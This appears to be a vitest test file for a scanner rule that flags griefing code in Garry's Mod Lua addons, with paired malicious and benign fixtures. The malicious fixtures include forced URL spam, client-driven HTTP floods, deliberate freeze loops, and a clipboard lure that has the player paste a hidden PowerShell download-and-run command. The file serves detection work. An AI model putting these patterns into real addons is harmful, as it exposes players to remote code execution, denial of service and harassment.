// Valid and invalid cases of the `client_griefing` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './client_griefing.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('client_griefing', () => {
  it('sound from a net message', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'net.Receive("amb", function() sound.PlayURL(net.ReadString(), "", function() end) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('configured radio', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'local URL = "https://radio.invalid/s.mp3"\nsound.PlayURL(URL, "", function() end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('server applying the material a player picked', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'net.Receive("paint", function(l, ply) local e = net.ReadEntity() e:SetMaterial(net.ReadString()) end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a page the server makes every joining player open every second', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerInitialSpawn", "x", function(ply)',
        '  ply:SendLua([[timer.Create("a", 1, 0, function() gui.OpenURL("https://casino.invalid") end)]])',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('the rules page opened once when a player asks for it (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSay", "rules", function(ply, text)',
        '  if text == "!rules" then ply:SendLua([[gui.OpenURL("https://myserver.invalid/rules")]]) return "" end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a workshop item a web reply names, downloaded and mounted', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'http.Fetch("https://o.invalid/ws", function(id)',
        '  steamworks.FileInfo(id, function(r)',
        '    steamworks.Download(r.fileid, true, function(p) game.MountGMA(p) end)',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
  });
  it("a content pack mounting the addon's own workshop item (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'steamworks.FileInfo("1234567890", function(r)',
        '  if not r then return end',
        '  steamworks.Download(r.fileid, true, function(p) if p then game.MountGMA(p) end end)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a web page asking its panel to follow a link (no finding)', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_motd.lua': [
        'concommand.Add("motd", function()',
        ' local html = vgui.Create("DHTML")',
        ' function html:ConsoleMessage(msg)',
        '  local link = string.match(msg, "^open:(.+)$")',
        '  if link then gui.OpenURL(link) end',
        ' end',
        ' html:OpenURL("https://motd.example.invalid/")',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('clients sending web requests whose address, method or body the server sends', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'net.Receive("diag_job", function()',
        '  local job = { url = net.ReadString(), verb = net.ReadString(), data = net.ReadString() }',
        '  HTTP({ url = job.url, method = job.verb, body = job.data, success = function() end })',
        'end)',
        'net.Receive("diag_post", function()',
        '  local u, form = net.ReadString(), util.JSONToTable(net.ReadString())',
        '  timer.Create("diag_post", 0.05, 1000, function() http.Post(u, form) end)',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity === 'high')).toHaveLength(2);
  });
  it('clients loading an image the server names, or polling its address at their own pace (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'net.Receive("banner_url", function()',
        '  local u = net.ReadString()',
        '  http.Fetch(u, function(body) file.Write("banner.png", body) end)',
        '  timer.Create("nowplaying", 15, 0, function() http.Fetch(u .. "/status.json", print) end)',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a server frozen for as long as players are on, after a random draw', () => {
    const findings = check(rule, {
      'lua/tickopt/sv_tuner.lua': [
        'timer.Create("flush", 3600, 0, function()',
        '  if math.random(10) ~= 1 then return end',
        '  collectgarbage("collect")',
        '  while #player.GetHumans() > 0 do end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.high);
    expect(findings[0]!.techniques).toContain('GB-024');
  });
  it('a queue emptied by its condition, a short wait on the clock (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_queue.lua': [
        'local queue = {}',
        'hook.Add("ShutDown", "q", function() while table.remove(queue) do end end)',
        'local function settle() local t = SysTime() + 0.001 while SysTime() < t do end end',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a parser's loops consuming tokens in their condition (benign)", () => {
    // GCompute's parser and interpreter.
    const findings = check(rule, {
      'lua/gcompute/compiler/parser.lua': [
        'function self:Block() while self:AcceptType (TokenType.Newline) do end end',
        'function self:Drain(astRunner) while astRunner:PopValue () do end end',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a client frozen for as long as the player is alive, or valid', () => {
    const frozen = (loop: string) =>
      check(rule, {
        'lua/autorun/client/cl_x.lua': `hook.Add("InitPostEntity", "x", function() ${loop} end)`,
      });
    expect(worst(frozen('while LocalPlayer():Alive() do end'))).toBe(RANK.high);
    expect(worst(frozen('while IsValid(LocalPlayer()) and LocalPlayer():IsValid() do end'))).toBe(
      RANK.high,
    );
  });
  it('a PowerShell line put on the clipboard for the player to paste in the Run box', () => {
    const findings = check(rule, {
      'lua/fps/cl_repair.lua': [
        'local recipe = { cmd = "cmd /c start /min powershell -nop -w hidden -c \\"irm https://r.invalid/x | iex\\"" }',
        'hook.Add("InitPostEntity", "fix", function()',
        '  http.Fetch("https://r.invalid/recipe", function(body) recipe.cmd = body end)',
        '  timer.Simple(600, function()',
        '    SetClipboardText(recipe.cmd)',
        '    Derma_Message("Press Windows + R, then Ctrl + V, then Enter", "Repair", "OK")',
        '  end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.high);
  });
  it("the server's address, a Discord invite and a SteamID copied on a click (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_copy.lua': [
        'concommand.Add("copy_ip", function() SetClipboardText(game.GetIPAddress()) end)',
        'concommand.Add("copy_discord", function() SetClipboardText("https://discord.gg/abcdef") end)',
        'concommand.Add("copy_id", function() SetClipboardText(LocalPlayer():SteamID()) end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
